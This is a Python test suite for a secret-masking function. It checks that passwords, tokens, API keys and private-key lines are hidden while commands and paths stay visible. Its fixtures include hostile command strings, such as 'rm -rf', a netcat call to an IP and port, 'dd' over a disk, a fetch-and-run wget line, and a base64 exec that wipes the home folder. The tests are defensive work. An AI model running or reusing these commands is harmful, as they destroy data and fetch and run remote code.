"""What has a secret's shape is hidden, with its length and place; words, commands, paths, options and hosts never."""

import re
import secrets
import string

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from hub.domain.canonical import visible
from hub.domain.masking import WORD_CHARS_MAX, mask

MARK = re.compile(r"⟨hidden: (\d+) characters?⟩")
BODY = "QUFhYmNkMTIzNDU2Nzg5MGFiY2RlZjk4NzY1NDMyMUFCQ0RFRjEyMzQ1Njc4OTBa"
BEGIN, END = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
KEY = f"{BEGIN}\n{BODY}\n{BODY}\nZm9v1w==\n{END}"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("password=hunter2; rm -rf /tmp/x", "password=⟨hidden: 7 characters⟩; rm -rf /tmp/x"),
        ("export DB_PASSWORD='c0rrect' && ls", "export DB_PASSWORD='⟨hidden: 7 characters⟩' && ls"),
        ("deploy --password abc123x --to prod", "deploy --password ⟨hidden: 7 characters⟩ --to prod"),
        ("curl -u bob:hunter2 https://x.y/z", "curl -u bob:⟨hidden: 7 characters⟩ https://x.y/z"),
        ("git clone https://me:hunter2@example.org/a", "git clone https://me:⟨hidden: 7 characters⟩@example.org/a"),
        ("curl 'https://a.b/c?password=x1y2z3&to=d'", "curl 'https://a.b/c?password=⟨hidden: 6 characters⟩&to=d'"),
        ("curl -H 'Authorization: Bearer ab1.x'", "curl -H 'Authorization: Bearer ab1.x'"),
        ("Authorization: Bearer a8Zk3Lq9Xw2", "Authorization: Bearer ⟨hidden: 11 characters⟩"),
        ('{"password": "xq7Ry2"}', '{"password": "⟨hidden: 6 characters⟩"}'),
        ("use ghp_16C7e42F292c6912E7710c838347Ae178B4a there", "use ghp_⟨hidden: 36 characters⟩ there"),
        ("sk-ant-api03-AbCdEf0123456789abcdef", "sk-ant-⟨hidden: 28 characters⟩"),
        ("password: hunter2x", "password: ⟨hidden: 8 characters⟩"),
        ("password=P@ssw0rd!", "password=⟨hidden: 9 characters⟩"),
        (KEY, f"{BEGIN}\n⟨hidden: 64 characters⟩\n⟨hidden: 64 characters⟩\nZm9v1w==\n{END}"),
        (rf'"{BEGIN}\n{BODY}\n{END}\n"', rf'"{BEGIN}\n⟨hidden: 64 characters⟩\n{END}\n"'),
        (f"+{BEGIN}\r\n+{BODY}\r\n", f"+{BEGIN}⟨U+000D⟩\n+⟨hidden: 64 characters⟩⟨U+000D⟩\n"),
        (f"key: |\n  {BEGIN}\n  {BODY}", f"key: |\n  {BEGIN}\n  ⟨hidden: 64 characters⟩"),
        ("curl -H 'Authorization: Bearer a8Zk3Lq9Xw2'", "curl -H 'Authorization: Bearer ⟨hidden: 11 characters⟩'"),
        (
            "PASSWORD=x1y2z3 && curl -H 'X-Api-Key: 1' -H \"Authorization: Bearer $PASSWORD\" a.b",
            "PASSWORD=⟨hidden: 6 characters⟩ && curl -H 'X-Api-Key: 1' -H \"Authorization: Bearer $PASSWORD\" a.b",
        ),
        ("pwd=x1y2z3; curl -u me:${pwd} a.b", "pwd=⟨hidden: 6 characters⟩; curl -u me:${pwd} a.b"),
        ("pwd=x1y2z3; git clone https://me:$pwd@a.b", "pwd=⟨hidden: 6 characters⟩; git clone https://me:$pwd@a.b"),
        ("pwd=x1y2z3; f --password $pwd $pwds", "pwd=⟨hidden: 6 characters⟩; f --password $pwd $pwds"),
        ("$password = 'x1y2z3'", "$password = '⟨hidden: 6 characters⟩'"),
        ("x-auth-token: 0f1e2d3c4b5a69788796a5b4", "x-auth-token: ⟨hidden: 24 characters⟩"),
        ("db:\n  password = x1y2z3", "db:\n  password = ⟨hidden: 6 characters⟩"),
        (
            "token=MTk4NjIyNDgzNDcxOTI1MjQ4.Cl2FMQ.ZnCjm1XVW7vRze4b7Cq4se7kKWs",
            "token=⟨hidden: 59 characters⟩",
        ),
    ],
)
def test_secrets_are_masked_and_the_rest_stays(text: str, shown: str) -> None:
    assert visible(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        'token="delete the backup"',
        "token='rm -rf /'",
        'token="$(rm -rf ~)"',
        "token='; rm -rf / #'",
        "token=`rm -rf ~/a1`",
        "token=\nrm1 -rf2 /",
        'password="x1; nc 203.0.113.9 4444"',
        "secret='drop database prod1'",
        "export DB_PASSWORD='correct horse' && ls",
        "--password 'format disk1 now'",
        '{"password": "wipe it2"}',
        "token=delete-all-files-now-2024",
        "token=DeleteEverythingInTheHomeFolderNow12",
        "password=wipe1the2disk3and4mail5keys6out",
        "ghp_delete-all-the-files-in-home-2024",
        "sk-proj-PleaseDelete1EveryBackup2InHome",
        "https://a:delete-everything-now@host/x",
        "-----BEGIN PRIVATE KEY-----\ndeleteallfilesinthehomefolderandpushitnow12\n-----END",
        "token=/home/me/run1.sh",
        "pwd=prod1db; dropdb $pwd",
        "DB_PWD=prod1db && dropdb ${DB_PWD}",
        "export token=run1me9\n$token",
        "token=run1me9; X=token $token",
        "token=run1me9; env -u bearer $token",
        "set TOKEN=run1me9& %TOKEN%",
        "$token = 'run1me9'; & $token",
        "make -f - <<E\nTOKEN = run1me9\nall:\n\t$(TOKEN)",
        "token=x1y2z3; curl -u bob:$token https://x.y; rm $token",
        "token=./run1x.sh",
        "token=x1y2z3.example.org",
        "token=x1y2z3.io",
        "--password bob@host1",
        "--token --force1",
        "token=https://evil1.example.org/x2",
        "Send 0.2 ETH to 0x71C7656EC7ab88b098defB751B7401B5f6d8976F",
        "exec(b64decode('aW1wb3J0IHNodXRpbDtzaHV0aWwucm10cmVlKCd+JykK'))",
        "git checkout 3f786850e387550fdab836ed7e6dc881de23001b",
        "token: rotate the old one",
        "reset the password: reboot",
        "--token-file /run/secrets/x",
        "PASSWORD=$(rm -rf ~)",
        "password=/home/me/thing",
        "token=https://example.org/x",
        "docker run -u 1000:1000 image",
        "ls ~/sk-learn-experiments-2024-long-path",
        "cd $PWD; pwd; ls",
        "max_tokens=500",
        "bearer authentication explained",
        "def call(token: String?, secret: bytes) -> None",
    ],
)
def test_what_is_no_secret_is_never_hidden(text: str) -> None:
    assert visible(text) == text


RUNNABLE = (
    "bash /tmp/x1",
    "dd if=/dev/zero of=/dev/sda1",
    "git push origin HEAD\n1234567890",
    "mv /home/me/photos /dev/null1",
    "rm /home/me/thesis/chapter1",
    "sudo bash /tmp/x1",
    "crontab /tmp/x1",
    "wget 3405803777/x1\nbash x1",
    "npm publish",
    "run1me9",
    "/home/me/QUFhYmNkMTIzNDU2Nzg5MGFiY2RlZjk4NzY1NDMyMUFCQ0RF",
)
BEFORE_A_COMMAND = (
    f": {BEGIN}\n",
    f"cat > key.pem <<EOF\n{KEY}\nEOF\n",
    f"cat > key.pem <<EOF\n{BEGIN}\n{BODY}\nEOF\n",
    f"cat > key.pem <<EOF\n{BEGIN}\n{BODY}\n",
    f": {BEGIN} {BODY} ",
    *(
        f"{before}{sign}"
        for before in (
            "token=",
            "password=",
            "Authorization=token",
            "Authorization=basic",
            "X=Authorization:token",
            "X=bearer",
            "X=a:bearer",
            "X=a-Bearer",
            "env -u bearer",
            "env -u token:",
            "flock password:",
            "> secret:",
            "unshare -rpwd",
            "ghp_",
            "sk-",
            "-u bob:",
            "://me:",
        )
        for sign in (" ", "\t", "  ", "\n", "\r\n", "\n\n", " \n", ";", "&&", "|", "&")
    ),
    *(f"{variable}{sign}" for variable in ("$token", "$env:TOKEN", "${script:password}", "$a.secret") for sign in "= "),
    "$Token = ",
)


def test_no_command_is_hidden_behind_what_a_secret_follows() -> None:
    for before in BEFORE_A_COMMAND:
        for command in RUNNABLE:
            for end in ("", f"\n{END}", "; ls"):
                assert command in mask(f"{before}{command}{end}"), (before, command)


@pytest.mark.slow
@given(st.lists(st.sampled_from((BEGIN, END, BODY, "token=", "Bearer", "run1me9", "--token", "password:", "EOF"))))
def test_no_mark_reaches_over_a_blank(words: list[str]) -> None:
    for between in (" ", "\n", "\t", "\r\n"):
        text = between.join(words)
        assert MARK.sub("", mask(text)).count(between) == text.count(between)


NAMES = (
    "password=",
    "token=",
    "--secret ",
    "api_key: ",
    "https://me:",
    "ghp_",
    "sk-",
    "Authorization: Bearer ",
    "eyJ",
    "AKIA",
)
PIECES = st.one_of(
    st.sampled_from((*NAMES, '"', "'", "@host", " ", "\n", "-----BEGIN PRIVATE KEY-----\n", "⟨hidden: 3 characters⟩")),
    st.text(alphabet=string.ascii_letters + string.digits + "-_./+=@!$`;&|", max_size=24),
    st.text(max_size=8),
)


@pytest.mark.slow
@given(st.lists(PIECES, max_size=12).map("".join))
@example("token=a1b2c3--token a1b2c3")
def test_only_marks_are_added_and_doing_it_again_changes_nothing(text: str) -> None:
    shown = mask(text)
    rest = iter(text)
    assert all(char in rest for char in MARK.sub("", shown)), "what is left is in the text, in its order"
    assert mask(shown) == shown


WORDS = st.text(alphabet=string.ascii_lowercase, min_size=WORD_CHARS_MAX, max_size=20)


@pytest.mark.slow
@given(st.sampled_from(NAMES), st.lists(WORDS, min_size=1, max_size=4), st.sampled_from((" ", "-", "_", "1", ".", "")))
def test_long_words_stay_wherever_they_stand(name: str, words: list[str], between: str) -> None:
    text = name + between.join(words)
    assert all(word in mask(text) for word in words)


@pytest.mark.slow
@given(st.sampled_from(NAMES), st.text(alphabet=" \n\t$`;&|<>(){}'\"\\", min_size=1, max_size=3), st.text(max_size=30))
def test_nothing_a_shell_would_act_on_is_hidden(name: str, sign: str, rest: str) -> None:
    hidden = mask(f"{name}a1b2c3d4{sign}{rest}")
    assert hidden.count(sign[0]) >= f"{name}a1b2c3d4{sign}{rest}".count(sign[0])


@pytest.mark.slow
def test_random_secrets_of_known_kinds_are_hidden() -> None:
    letters = string.ascii_letters + string.digits
    kinds = {"ghp_": 36, "sk-ant-api03-": 80, "token=": 40, "Authorization: Bearer ": 43}
    for name, chars in kinds.items():
        made = ["".join(secrets.choice(letters) for _ in range(chars)) for _ in range(400)]
        assert sum(one in mask(name + one) for one in made) < len(made) // 10, name


@pytest.mark.slow
def test_nearly_all_lines_of_real_keys_are_hidden() -> None:
    lines = [
        "".join(secrets.choice(string.ascii_letters + string.digits + "+/") for _ in range(64)) for _ in range(400)
    ]
    shown = mask(f"{BEGIN}\n" + "\n".join(lines) + f"\n{END}")
    assert sum(map(int, MARK.findall(shown))) > len("".join(lines)) * 9 // 10


def test_what_may_be_a_path_among_the_lines_of_a_key_is_seen_to_be_one() -> None:
    shown = mask(f": {BEGIN}\ntests/{BODY[:48]}/x1\n{END}")
    assert shown == f": {BEGIN}\ntests/⟨hidden: 48 characters⟩/x1\n{END}"
